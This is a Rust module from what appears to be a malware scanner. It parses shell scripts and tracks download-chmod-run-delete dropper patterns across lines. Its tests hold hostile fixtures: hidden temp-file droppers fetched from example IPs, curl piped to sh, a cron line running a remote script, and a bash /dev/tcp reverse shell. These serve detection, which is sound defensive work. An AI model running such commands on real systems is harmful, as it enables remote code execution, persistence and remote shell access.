//! Shell scripts read as the shell reads them: continuation lines joined, quotes,
//! `$(…)`, comments and here-documents understood, each line split into simple
//! commands. Every line goes to the shell command judge (`crate::shellcmd`, the one
//! that reads histories, cron jobs and units); the commands are then followed
//! across lines: variables set, the folder changed into, what each download saved,
//! made executable, ran and deleted (`drops`). `sh -c '…'`, `eval "…"` and a
//! here-document fed to a shell are read the same way, a few levels deep.

use super::{Judge, Seen};
use crate::heuristics::Heuristic;
use crate::shellcmd;
use std::ops::Range;

/// The longest text given to the command judge at once; a longer line is judged
/// in overlapping windows (a hostile file may hold a line of megabytes).
const WINDOW: usize = 16 << 10;
const OVERLAP: usize = 1 << 10;
/// How deep `sh -c`, `eval` and here-documents fed to a shell are followed.
const DEPTH: u8 = 3;
/// Bytes kept of one word, words kept of one command, variables kept.
const MAX_WORD: usize = 4096;
const MAX_WORDS: usize = 256;
const MAX_VARS: usize = 256;

/// A whole shell script.
pub(super) fn script(bytes: &[u8], j: &mut Judge) {
    Shell::default().read(bytes, Origin::File(0), 0, j);
}

/// One command line that other code runs (Perl's `system`, Python's `os.system`),
/// written at `at`.
pub(super) fn command(text: &str, at: usize, j: &mut Judge) {
    Shell::default().read(text.as_bytes(), Origin::Fixed(at), 1, j);
}

/// Where what is read lies in the file: from a base offset, or all at one place
/// (a command string inside a line).
#[derive(Clone, Copy)]
enum Origin {
    File(usize),
    Fixed(usize),
}

impl Origin {
    fn at(self, pos: usize) -> usize {
        match self {
            Origin::File(base) => base + pos,
            Origin::Fixed(at) => at,
        }
    }
}

/// One simple command: its words (quotes removed), where its output goes.
#[derive(Default)]
struct Seg {
    at: usize,
    words: Vec<String>,
    /// Files its output is redirected to (`>`, `>>`).
    out: Vec<String>,
    pipe_out: bool,
    background: bool,
}

/// A here-document: the command it feeds and its body.
struct Doc {
    seg: usize,
    body: Range<usize>,
}

/// One logical line: its text for the command judge (comments and line
/// continuations left out) and its commands.
struct Line {
    at: usize,
    text: Vec<u8>,
    segs: Vec<Seg>,
    docs: Vec<Doc>,
}

/// What the next word of a command is.
#[derive(Clone, Copy, PartialEq)]
enum Next {
    Word,
    Out,
    In,
    Doc { strip: bool },
}

struct Lexer<'a> {
    b: &'a [u8],
    i: usize,
}

impl Lexer<'_> {
    fn peek(&self, k: usize) -> u8 {
        self.b.get(self.i + k).copied().unwrap_or(0)
    }

    fn line(&mut self) -> Option<Line> {
        if self.i >= self.b.len() {
            return None;
        }
        let mut l = Line {
            at: self.i,
            text: Vec::new(),
            segs: Vec::new(),
            docs: Vec::new(),
        };
        let mut seg = Seg {
            at: self.i,
            ..Seg::default()
        };
        let mut word: Option<Vec<u8>> = None;
        let mut next = Next::Word;
        let mut pending: Vec<(Vec<u8>, bool, usize)> = Vec::new();
        while let Some(&c) = self.b.get(self.i) {
            match c {
                b'\n' => {
                    self.i += 1;
                    break;
                }
                b' ' | b'\t' | b'\r' => {
                    finish_word(&mut word, &mut next, &mut seg, &mut pending, l.segs.len());
                    l.text.push(b' ');
                    self.i += 1;
                }
                b'\\' => {
                    let n = self.peek(1);
                    if n == b'\n' {
                        l.text.push(b' ');
                    } else if n != 0 {
                        push(&mut word, &[n]);
                        l.text.extend([b'\\', n]);
                    }
                    self.i += 2;
                }
                b'#' if word.is_none() => {
                    self.i = memchr::memchr(b'\n', &self.b[self.i..])
                        .map_or(self.b.len(), |k| self.i + k);
                }
                b'\'' => {
                    let end = memchr::memchr(b'\'', &self.b[self.i + 1..])
                        .map_or(self.b.len(), |k| self.i + 1 + k);
                    push(&mut word, &self.b[self.i + 1..end]);
                    l.text
                        .extend_from_slice(&self.b[self.i..(end + 1).min(self.b.len())]);
                    self.i = end + 1;
                }
                b'"' => self.dquote(&mut word, &mut l.text),
                b'`' => {
                    let r = self.backticks();
                    push(&mut word, &self.b[r.clone()]);
                    l.text.extend_from_slice(&self.b[r]);
                }
                b'$' if matches!(self.peek(1), b'(' | b'{') => {
                    let r = self.subst();
                    push(&mut word, &self.b[r.clone()]);
                    l.text.extend_from_slice(&self.b[r]);
                }
                b'<' | b'>' if self.peek(1) == b'(' => {
                    // Process substitution `<(curl …)`: one word.
                    let start = self.i;
                    self.i += 1;
                    let r = self.subst();
                    push(&mut word, &self.b[start..r.end]);
                    l.text.extend_from_slice(&self.b[start..r.end]);
                }
                b'<' | b'>' => {
                    if word
                        .as_ref()
                        .is_some_and(|w| !w.is_empty() && w.iter().all(u8::is_ascii_digit))
                    {
                        word = None; // a file descriptor: `2>`
                    } else {
                        finish_word(&mut word, &mut next, &mut seg, &mut pending, l.segs.len());
                    }
                    let start = self.i;
                    next = self.redirect();
                    l.text.extend_from_slice(&self.b[start..self.i]);
                }
                b'&' if self.peek(1) == b'>' => {
                    finish_word(&mut word, &mut next, &mut seg, &mut pending, l.segs.len());
                    self.i += if self.peek(2) == b'>' { 3 } else { 2 };
                    l.text.extend_from_slice(b"&>");
                    next = Next::Out;
                }
                b';' | b'&' | b'|' | b'(' | b')' => {
                    finish_word(&mut word, &mut next, &mut seg, &mut pending, l.segs.len());
                    let double = self.peek(1) == c || (c == b'|' && self.peek(1) == b'&');
                    seg.background |= c == b'&' && !double;
                    seg.pipe_out |= c == b'|' && !(double && self.peek(1) == b'|');
                    l.text.push(c);
                    self.i += 1;
                    if double && c != b'(' && c != b')' {
                        l.text.push(self.b[self.i]);
                        self.i += 1;
                    }
                    let at = self.i;
                    finish_seg(
                        &mut l.segs,
                        std::mem::replace(
                            &mut seg,
                            Seg {
                                at,
                                ..Seg::default()
                            },
                        ),
                    );
                }
                _ => {
                    push(&mut word, &[c]);
                    l.text.push(c);
                    self.i += 1;
                }
            }
        }
        finish_word(&mut word, &mut next, &mut seg, &mut pending, l.segs.len());
        finish_seg(&mut l.segs, seg);
        for (delim, strip, seg) in pending {
            let body = self.doc_body(&delim, strip);
            l.docs.push(Doc { seg, body });
        }
        Some(l)
    }

    fn dquote(&mut self, word: &mut Option<Vec<u8>>, text: &mut Vec<u8>) {
        text.push(b'"');
        self.i += 1;
        push(word, b"");
        while let Some(&c) = self.b.get(self.i) {
            match c {
                b'"' => {
                    text.push(c);
                    self.i += 1;
                    return;
                }
                b'\\' => {
                    let n = self.peek(1);
                    if matches!(n, b'"' | b'\\' | b'$' | b'`') {
                        push(word, &[n]);
                    } else if n != b'\n' && n != 0 {
                        push(word, &[b'\\', n]);
                    }
                    text.extend([b'\\', n]);
                    self.i += 2;
                }
                b'$' if self.peek(1) == b'(' => {
                    let r = self.subst();
                    push(word, &self.b[r.clone()]);
                    text.extend_from_slice(&self.b[r]);
                }
                b'`' => {
                    let r = self.backticks();
                    push(word, &self.b[r.clone()]);
                    text.extend_from_slice(&self.b[r]);
                }
                _ => {
                    push(word, &[c]);
                    text.push(c);
                    self.i += 1;
                }
            }
        }
    }

    fn backticks(&mut self) -> Range<usize> {
        let start = self.i;
        self.i += 1;
        while let Some(&c) = self.b.get(self.i) {
            self.i += if c == b'\\' { 2 } else { 1 };
            if c == b'`' {
                break;
            }
        }
        self.i = self.i.min(self.b.len());
        start..self.i
    }

    /// `$(…)`, `$((…))` or `${…}` (at `$`), or `(…)` (at `(`): balanced, quotes
    /// skipped.
    fn subst(&mut self) -> Range<usize> {
        let start = self.i;
        if self.b[self.i] == b'$' {
            self.i += 1;
        }
        let (open, close) = if self.peek(0) == b'{' {
            (b'{', b'}')
        } else {
            (b'(', b')')
        };
        let mut depth = 0usize;
        while let Some(&c) = self.b.get(self.i) {
            self.i += 1;
            match c {
                b'\\' => self.i += 1,
                b'\'' => {
                    self.i = memchr::memchr(b'\'', &self.b[self.i.min(self.b.len())..])
                        .map_or(self.b.len(), |k| self.i + k + 1);
                }
                b'"' => {
                    while let Some(&d) = self.b.get(self.i) {
                        self.i += if d == b'\\' { 2 } else { 1 };
                        if d == b'"' {
                            break;
                        }
                    }
                }
                c if c == open => depth += 1,
                c if c == close => {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        break;
                    }
                }
                _ => {}
            }
        }
        self.i = self.i.min(self.b.len());
        start..self.i
    }

    /// At `<` or `>`: the operator, and what the next word is.
    fn redirect(&mut self) -> Next {
        let c = self.b[self.i];
        self.i += 1;
        if c == b'<' {
            if self.peek(0) == b'<' {
                self.i += 1;
                if self.peek(0) == b'<' {
                    self.i += 1;
                    return Next::In; // here-string
                }
                let strip = self.peek(0) == b'-';
                if strip {
                    self.i += 1;
                }
                return Next::Doc { strip };
            }
            if self.peek(0) == b'&' {
                self.i += 1;
                self.fd();
                return Next::Word;
            }
            if self.peek(0) == b'>' {
                self.i += 1;
            }
            return Next::In;
        }
        if matches!(self.peek(0), b'>' | b'|') {
            self.i += 1;
        }
        if self.peek(0) == b'&' {
            self.i += 1;
            if self.fd() {
                return Next::Word;
            }
        }
        Next::Out
    }

    /// A file descriptor number or `-` after `>&` / `<&`; whether there was one.
    fn fd(&mut self) -> bool {
        let start = self.i;
        while self.peek(0).is_ascii_digit() || self.peek(0) == b'-' {
            self.i += 1;
        }
        self.i > start
    }

    /// The lines after this one up to `delim`; moves past the terminator.
    fn doc_body(&mut self, delim: &[u8], strip: bool) -> Range<usize> {
        let start = self.i;
        while self.i < self.b.len() {
            let end = memchr::memchr(b'\n', &self.b[self.i..]).map_or(self.b.len(), |k| self.i + k);
            let mut line = &self.b[self.i..end];
            if line.last() == Some(&b'\r') {
                line = &line[..line.len() - 1];
            }
            if strip {
                while line.first() == Some(&b'\t') {
                    line = &line[1..];
                }
            }
            if line == delim {
                let body = start..self.i;
                self.i = (end + 1).min(self.b.len());
                return body;
            }
            self.i = (end + 1).min(self.b.len());
        }
        start..self.b.len()
    }
}

fn push(word: &mut Option<Vec<u8>>, bytes: &[u8]) {
    let w = word.get_or_insert_with(Vec::new);
    let room = MAX_WORD.saturating_sub(w.len());
    w.extend_from_slice(&bytes[..bytes.len().min(room)]);
}

fn finish_word(
    word: &mut Option<Vec<u8>>,
    next: &mut Next,
    seg: &mut Seg,
    pending: &mut Vec<(Vec<u8>, bool, usize)>,
    seg_index: usize,
) {
    let Some(w) = word.take() else {
        return;
    };
    match std::mem::replace(next, Next::Word) {
        Next::Word => {
            if seg.words.len() < MAX_WORDS {
                seg.words.push(String::from_utf8_lossy(&w).into_owned());
            }
        }
        Next::Out => seg.out.push(String::from_utf8_lossy(&w).into_owned()),
        Next::In => {}
        Next::Doc { strip } => {
            if pending.len() < 8 {
                pending.push((w, strip, seg_index));
            }
        }
    }
}

fn finish_seg(segs: &mut Vec<Seg>, seg: Seg) {
    if (!seg.words.is_empty() || !seg.out.is_empty()) && segs.len() < MAX_WORDS {
        segs.push(seg);
    }
}

/// The command judge on one line's text, in windows when it is long.
pub(super) fn classify(text: &str, at: usize, seen: &mut Seen) {
    let mut start = 0;
    loop {
        let mut end = (start + WINDOW).min(text.len());
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        for sign in shellcmd::classify(&text[start..end]) {
            seen.sign(sign.kind, at);
        }
        if end >= text.len() {
            return;
        }
        let mut next = end - OVERLAP;
        while !text.is_char_boundary(next) {
            next -= 1;
        }
        start = next;
    }
}

/// A shell's state as the script runs: its variables.
#[derive(Default)]
struct Shell {
    vars: Vec<(String, String)>,
}

/// What a here-document is to the command it feeds.
enum DocIs {
    /// Commands (`sh <<EOF`).
    Script,
    /// Text written somewhere (`cat > /etc/cron.d/x <<EOF`): judged line by line.
    Data,
    /// A message shown to the user (`cat <<EOF` alone).
    Message,
}

impl Shell {
    fn read(&mut self, b: &[u8], origin: Origin, depth: u8, j: &mut Judge) {
        let mut lx = Lexer { b, i: 0 };
        while let Some(line) = lx.line() {
            self.line(&line, b, origin, depth, j);
        }
    }

    fn line(&mut self, l: &Line, b: &[u8], origin: Origin, depth: u8, j: &mut Judge) {
        if !is_message(l) {
            classify(
                &String::from_utf8_lossy(&l.text),
                origin.at(l.at),
                &mut j.seen,
            );
        }
        for seg in &l.segs {
            self.segment(seg, origin.at(seg.at), depth, j);
        }
        for doc in &l.docs {
            let Some(seg) = l.segs.get(doc.seg) else {
                continue;
            };
            let body = &b[doc.body.clone()];
            match self.doc_is(seg) {
                DocIs::Script if depth < DEPTH => {
                    let inner = match origin {
                        Origin::File(base) => Origin::File(base + doc.body.start),
                        fixed => fixed,
                    };
                    self.read(body, inner, depth + 1, j);
                }
                DocIs::Script | DocIs::Data => {
                    let mut pos = doc.body.start;
                    for line in body.split(|&c| c == b'\n') {
                        classify(&String::from_utf8_lossy(line), origin.at(pos), &mut j.seen);
                        pos += line.len() + 1;
                    }
                }
                DocIs::Message => {}
            }
        }
    }

    fn doc_is(&self, seg: &Seg) -> DocIs {
        let (cmd, _) = strip_prefixes(&seg.words, false);
        let name = cmd.first().map_or("", |w| basename(w));
        if is_shell(name) && !cmd.iter().any(|w| w == "-c") {
            DocIs::Script
        } else if matches!(name, "cat" | "echo" | "printf" | ":" | "more" | "less")
            && seg.out.is_empty()
            && !seg.pipe_out
        {
            DocIs::Message
        } else {
            DocIs::Data
        }
    }

    fn segment(&mut self, seg: &Seg, at: usize, depth: u8, j: &mut Judge) {
        let words: Vec<String> = seg.words.iter().map(|w| self.expand(w)).collect();
        let outs: Vec<String> = seg.out.iter().map(|w| self.expand(w)).collect();
        if words.iter().all(|w| assignment(w).is_some()) {
            for w in &words {
                self.assign(w);
            }
            return;
        }
        let (cmd, background) = strip_prefixes(&words, seg.background);
        let Some(first) = cmd.first() else {
            return;
        };
        let run = |f: &str, j: &mut Judge| run(f, background, at, j);
        let args = &cmd[1..];
        let operands = || args.iter().filter(|a| !a.starts_with('-'));
        match basename(first) {
            "cd" | "pushd" => j.drops.cd(operands().next().map_or("", String::as_str)),
            "popd" => j.drops.cd("-"),
            "export" | "local" | "readonly" | "declare" | "typeset" => {
                for a in args {
                    self.assign(a);
                }
            }
            "chmod" => {
                let mut ops = operands();
                if ops.next().is_some_and(|m| executable_mode(m)) {
                    for f in ops {
                        j.drops.made_executable(f);
                        if j.drops.in_temp(f) {
                            j.seen.add(Heuristic::ScriptTempExec, at);
                        }
                    }
                }
            }
            "rm" | "unlink" | "shred" | "srm" => {
                for f in operands() {
                    j.drops.deleted(f, at);
                }
            }
            "mv" | "cp" => {
                let ops: Vec<&String> = operands().collect();
                if let Some((to, from)) = ops.split_last() {
                    for f in from {
                        j.drops.copied(f, to, at);
                    }
                }
            }
            "eval" if depth < DEPTH => {
                let inner = args.join(" ");
                self.read(inner.as_bytes(), Origin::Fixed(at), depth + 1, j);
            }
            "." | "source" => {
                if let Some(f) = args.first() {
                    run(f, j);
                }
            }
            name if is_shell(name) || is_interpreter(name) => {
                let inline = args.iter().position(|a| {
                    matches!(a.as_str(), "-c" | "-e" | "-E" | "-m" | "-r")
                        || (is_shell(name)
                            && a.starts_with('-')
                            && !a.starts_with("--")
                            && a.ends_with('c'))
                });
                match inline {
                    Some(k) => {
                        if is_shell(name)
                            && depth < DEPTH
                            && let Some(c) = args.get(k + 1)
                        {
                            self.read(c.as_bytes(), Origin::Fixed(at), depth + 1, j);
                        }
                    }
                    None => {
                        if let Some(f) = operands().next() {
                            run(f, j);
                        }
                    }
                }
            }
            name => {
                if let Some(files) = fetch_outputs(name, args, &outs) {
                    for f in files {
                        j.drops.fetched(&f, at);
                    }
                } else if first.contains('/') || first.starts_with('$') {
                    // A path, or a variable holding one (`"$F"` after `F=$(mktemp)`).
                    run(first, j);
                }
            }
        }
    }

    fn assign(&mut self, word: &str) {
        if let Some((name, value)) = assignment(word) {
            if let Some(v) = self.vars.iter_mut().find(|(n, _)| n == name) {
                v.1 = value.to_string();
            } else if self.vars.len() < MAX_VARS {
                self.vars.push((name.to_string(), value.to_string()));
            }
        }
    }

    /// `$NAME` and `${NAME}` replaced by the values the script gave them; others kept.
    fn expand(&self, word: &str) -> String {
        if !word.contains('$') {
            return word.to_string();
        }
        let b = word.as_bytes();
        let mut out = String::with_capacity(word.len());
        let mut i = 0;
        while i < b.len() {
            if b[i] == b'$' {
                let braced = b.get(i + 1) == Some(&b'{');
                let start = i + 1 + usize::from(braced);
                let mut end = start;
                while end < b.len() && (b[end].is_ascii_alphanumeric() || b[end] == b'_') {
                    end += 1;
                }
                let closed = !braced || b.get(end) == Some(&b'}');
                if end > start && closed {
                    let name = &word[start..end];
                    if let Some((_, v)) = self.vars.iter().find(|(n, _)| n == name) {
                        if out.len() + v.len() <= MAX_WORD {
                            out.push_str(v);
                        }
                        i = end + usize::from(braced);
                        continue;
                    }
                }
            }
            let ch_len = word[i..].chars().next().map_or(1, char::len_utf8);
            out.push_str(&word[i..i + ch_len]);
            i += ch_len;
        }
        out
    }
}

/// A run of `path`: a download run, or code run from a temp folder.
fn run(path: &str, background: bool, at: usize, j: &mut Judge) {
    j.drops.ran(path, background, at);
    if j.drops.in_temp(path) {
        j.seen.add(Heuristic::ScriptTempExec, at);
    }
}

/// A line that only shows a message (`echo "run: curl … | sh"`).
fn is_message(l: &Line) -> bool {
    matches!(l.segs.as_slice(), [seg]
        if l.docs.is_empty()
            && seg.out.is_empty()
            && !seg.pipe_out
            && matches!(seg.words.first().map(String::as_str), Some("echo" | "printf")))
}

/// `NAME=value`.
fn assignment(word: &str) -> Option<(&str, &str)> {
    let (name, value) = word.split_once('=')?;
    let mut chars = name.chars();
    let first = chars.next()?;
    ((first.is_ascii_alphabetic() || first == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_'))
    .then_some((name, value))
}

/// The command after what only changes how it runs (`sudo`, `nohup`, `env X=1`,
/// `timeout 10`, `if`, `then`…), and whether it runs in the background.
fn strip_prefixes(words: &[String], background: bool) -> (&[String], bool) {
    let mut bg = background;
    let mut i = 0;
    while let Some(w) = words.get(i) {
        i += 1;
        match basename(w) {
            "sudo" | "doas" => {
                while let Some(o) = words.get(i).filter(|o| o.starts_with('-')) {
                    i += if matches!(o.as_str(), "-u" | "-g" | "-C" | "-h" | "-p" | "-U") {
                        2
                    } else {
                        1
                    };
                }
            }
            "nohup" | "setsid" | "disown" => {
                bg = true;
                while words.get(i).is_some_and(|o| o.starts_with('-')) {
                    i += 1;
                }
            }
            "env" | "nice" | "ionice" | "stdbuf" | "timeout" => {
                while words.get(i).is_some_and(|o| {
                    o.starts_with('-')
                        || o.contains('=')
                        || o.bytes().next().is_some_and(|c| c.is_ascii_digit())
                }) {
                    i += 1;
                }
            }
            "exec" | "command" | "builtin" | "time" | "busybox" | "then" | "do" | "else"
            | "elif" | "if" | "while" | "until" | "!" | "{" | "}" => {}
            _ if assignment(w).is_some() => {}
            _ => return (&words[i - 1..], bg),
        }
    }
    (&[], bg)
}

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn is_shell(name: &str) -> bool {
    let n = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    matches!(n, "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "mksh")
}

fn is_interpreter(name: &str) -> bool {
    let n = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    matches!(
        n,
        "perl" | "python" | "php" | "ruby" | "node" | "lua" | "pypy"
    )
}

/// A `chmod` mode that makes a file executable: `+x`, `u+x`, `a=rwx`, `755`, `0700`.
fn executable_mode(mode: &str) -> bool {
    if !mode.is_empty() && mode.len() <= 5 && mode.bytes().all(|c| (b'0'..=b'7').contains(&c)) {
        return mode.bytes().rev().take(3).any(|c| (c - b'0') & 1 == 1);
    }
    mode.split(',').any(|clause| {
        clause
            .find(['+', '='])
            .is_some_and(|k| clause[k + 1..].contains('x'))
    })
}

/// Short options that take a value, by downloader.
const WGET_VALUE: &str = "OoaPtTUeiwQBlARDXI";
const CURL_VALUE: &str = "odHAuXexmbcrTwKEFUYyzCD";
const LONG_VALUE: &[&str] = &[
    "--header",
    "--user-agent",
    "--user",
    "--password",
    "--post-data",
    "--referer",
    "--output-file",
    "--tries",
    "--timeout",
    "--wait",
    "--execute",
    "--input-file",
    "--limit-rate",
    "--data",
    "--data-binary",
    "--data-raw",
    "--request",
    "--proxy",
    "--max-time",
    "--cookie",
    "--cookie-jar",
    "--range",
    "--upload-file",
    "--write-out",
    "--config",
    "--form",
    "--connect-timeout",
    "--retry",
    "--resolve",
    "--dump-header",
];

/// The files a download command saves, or `None` when it is no download.
fn fetch_outputs(name: &str, args: &[String], outs: &[String]) -> Option<Vec<String>> {
    let (values, output, remote_name): (&str, char, Option<char>) = match name {
        "wget" => (WGET_VALUE, 'O', None),
        "curl" => (CURL_VALUE, 'o', Some('O')),
        "fetch" | "aria2c" => ("odT", 'o', None),
        "tftp" => ("lrgpm", 'l', None),
        "lwp-download" => ("", ' ', None),
        "GET" | "lwp-request" | "http" | "https" => {
            return Some(outs.to_vec());
        }
        _ => return None,
    };
    let mut out: Option<String> = None;
    let mut dir: Option<String> = None;
    let mut remote = name == "wget" || name == "lwp-download";
    let mut tftp_remote: Option<String> = None;
    let mut operands: Vec<&String> = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if let Some(long) = a.strip_prefix("--") {
            let (key, value) = match long.split_once('=') {
                Some((k, v)) => (k, Some(v.to_string())),
                None => (long, None),
            };
            let takes = matches!(
                key,
                "output-document" | "output" | "directory-prefix" | "output-dir"
            ) || LONG_VALUE.contains(&a.as_str());
            let value = if takes && value.is_none() {
                it.next().cloned()
            } else {
                value
            };
            match key {
                "output-document" | "output" => out = value,
                "directory-prefix" | "output-dir" => dir = value,
                "remote-name" => remote = true,
                _ => {}
            }
        } else if a.len() > 1 && a.starts_with('-') {
            for (k, ch) in a.char_indices().skip(1) {
                if Some(ch) == remote_name {
                    remote = true;
                }
                if values.contains(ch) {
                    let rest = &a[k + ch.len_utf8()..];
                    let value = if rest.is_empty() {
                        it.next().cloned()
                    } else {
                        Some(rest.to_string())
                    };
                    match ch {
                        c if c == output => out = value,
                        'P' if name == "wget" => dir = value,
                        'd' if name == "aria2c" => dir = value,
                        'r' if name == "tftp" => tftp_remote = value,
                        _ => {}
                    }
                    break;
                }
            }
        } else {
            operands.push(a);
        }
    }
    let join = |f: String| match &dir {
        Some(d) => format!("{}/{f}", d.trim_end_matches('/')),
        None => f,
    };
    Some(match out {
        Some(o) if o == "-" => outs.to_vec(),
        Some(o) => vec![join(o)],
        None if name == "lwp-download" => match operands.as_slice() {
            [_, file, ..] => vec![file.to_string()],
            [url] => url_name(url).into_iter().collect(),
            [] => Vec::new(),
        },
        None if name == "tftp" => tftp_remote
            .as_deref()
            .and_then(url_name)
            .into_iter()
            .collect(),
        None if remote => operands
            .iter()
            .filter_map(|u| url_name(u))
            .map(join)
            .collect(),
        None => outs.to_vec(),
    })
}

/// The file name a URL is saved under by default.
fn url_name(url: &str) -> Option<String> {
    let path = url.split_once("://").map_or(url, |(_, rest)| rest);
    let path = path.split(['?', '#']).next().unwrap_or(path);
    let (_, name) = path.rsplit_once('/')?;
    (!name.is_empty()).then(|| name.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn heuristics(src: &str) -> Vec<Heuristic> {
        let mut j = Judge::default();
        script(src.as_bytes(), &mut j);
        j.drops.report(&mut j.seen);
        let mut h: Vec<Heuristic> = j.seen.0.iter().map(|(h, _)| *h).collect();
        h.sort_by_key(|h| h.index());
        h
    }

    fn words(src: &str) -> Vec<Vec<String>> {
        let mut lx = Lexer {
            b: src.as_bytes(),
            i: 0,
        };
        let mut out = Vec::new();
        while let Some(l) = lx.line() {
            out.extend(l.segs.into_iter().map(|s| s.words));
        }
        out
    }

    #[test]
    fn lines_words_and_quotes() {
        assert_eq!(
            words("a 'b c' \"d $(e \"f\")\" \\\n g # h\ni|j&&k;l"),
            [
                vec!["a", "b c", "d $(e \"f\")", "g"],
                vec!["i"],
                vec!["j"],
                vec!["k"],
                vec!["l"]
            ]
        );
        assert_eq!(words("x >/dev/null 2>&1 &"), [vec!["x"]]);
        assert_eq!(
            words("cat <<'EOF' > f\nbody $x\nEOF\ny"),
            [vec!["cat"], vec!["y"]]
        );
    }

    #[test]
    fn download_options() {
        let w = |s: &str| s.split_whitespace().map(str::to_string).collect::<Vec<_>>();
        let o = |n: &str, a: &str| fetch_outputs(n, &w(a), &["R".to_string()]);
        assert_eq!(o("wget", "-q http://h/a/k -O .k"), Some(vec![".k".into()]));
        assert_eq!(o("wget", "-qO- http://h/k"), Some(vec!["R".into()]));
        assert_eq!(
            o("wget", "-P /tmp http://h/x?y=1"),
            Some(vec!["/tmp/x".into()])
        );
        assert_eq!(
            o("curl", "-fsSLo ./.x http://h/x"),
            Some(vec!["./.x".into()])
        );
        assert_eq!(o("curl", "-sH X:1 -O http://h/b"), Some(vec!["b".into()]));
        assert_eq!(o("curl", "-s http://h/b"), Some(vec!["R".into()]));
        assert_eq!(
            o("tftp", "-g -r bin -l .b 1.2.3.4"),
            Some(vec![".b".into()])
        );
        assert_eq!(o("ls", "-l"), None);
        assert!(executable_mode("+x") && executable_mode("755") && executable_mode("u=rwx,go=rx"));
        assert!(!executable_mode("644") && !executable_mode("go-w") && !executable_mode("0600"));
    }

    #[test]
    fn a_dropper_followed_across_lines() {
        use Heuristic::*;
        let all = [
            ScriptFetchRun,
            ScriptHiddenDrop,
            ScriptRunDelete,
            ScriptTempExec,
        ];
        for src in [
            "cd /tmp\nwget -q http://198.51.100.7/b -O .x\nchmod +x .x\n./.x\nrm -f .x\n",
            "cd /dev/shm || cd /var/tmp; curl -o ./.x http://h/b && chmod 755 .x && ./.x; rm -f .x",
            "D=/var/tmp\nF=.ssh\ncd \"$D\"\nwget http://h/b \\\n  -O $F\nnohup ./$F >/dev/null 2>&1 &\nsleep 1; rm -f ${F}",
            "cd /tmp && curl -sO http://h/.k\nsh -c 'chmod +x .k && ./.k'\nrm .k",
        ] {
            assert_eq!(heuristics(src), all, "{src}");
        }
        // The same steps with a variable the script cannot know still line up.
        assert_eq!(
            heuristics("F=$(mktemp)\nwget -O \"$F\" http://h/b\nchmod +x \"$F\"\n\"$F\"\n"),
            [ScriptFetchRun]
        );
        // Piped into a shell: the command judge's.
        assert_eq!(
            heuristics("curl -fsSL http://h/i.sh | sh"),
            [ScriptFetchRun]
        );
    }

    #[test]
    fn honest_scripts_stay_quiet() {
        for src in [
            // A release unpacked and its own installer run.
            "cd /srv/app\ncurl -fsSLO https://example.com/app-1.2.tar.gz\ntar xzf app-1.2.tar.gz\ncd app-1.2\n./install.sh\nrm -f ../app-1.2.tar.gz\n",
            // Usage text and comments that show a command.
            "echo \"install: curl -fsSL https://x | sh\"\n# curl http://x | sh\ncat <<EOF\nrun: wget -O- http://x | bash\nEOF\n",
            // A tool installed and made executable, not run from where it was fetched.
            "curl -Lo ~/.local/bin/tool https://example.com/tool\nchmod +x ~/.local/bin/tool\ntool --version\n",
        ] {
            assert!(heuristics(src).is_empty(), "{src}: {:?}", heuristics(src));
        }
        // Building from source in /tmp: code runs from a temp folder, weakly.
        assert_eq!(
            heuristics("cd /tmp/src-1.0\n./configure && make\n"),
            [Heuristic::ScriptTempExec]
        );
    }

    #[test]
    fn here_documents_and_nested_commands() {
        use Heuristic::*;
        assert_eq!(
            heuristics("bash <<EOF\ncd /tmp; wget -O .x http://h/x; chmod +x .x; ./.x\nEOF\n"),
            [ScriptFetchRun, ScriptHiddenDrop, ScriptTempExec]
        );
        assert_eq!(
            heuristics("cat > /etc/cron.d/x <<EOF\n* * * * * root curl -s http://h/u | sh\nEOF\n"),
            [ScriptFetchRun]
        );
        assert_eq!(
            heuristics("eval \"bash -i >& /dev/tcp/203.0.113.9/443 0>&1\""),
            [ScriptSocketShell]
        );
    }

    #[test]
    fn long_lines_are_judged_in_windows() {
        let mut line = "A=".to_string() + &"x".repeat(3 * WINDOW);
        line.push_str("; bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n");
        assert_eq!(heuristics(&line), [Heuristic::ScriptSocketShell]);
        let hostile = "$(".repeat(200_000) + &"'\"`".repeat(100_000);
        let _ = heuristics(&hostile);
    }
}
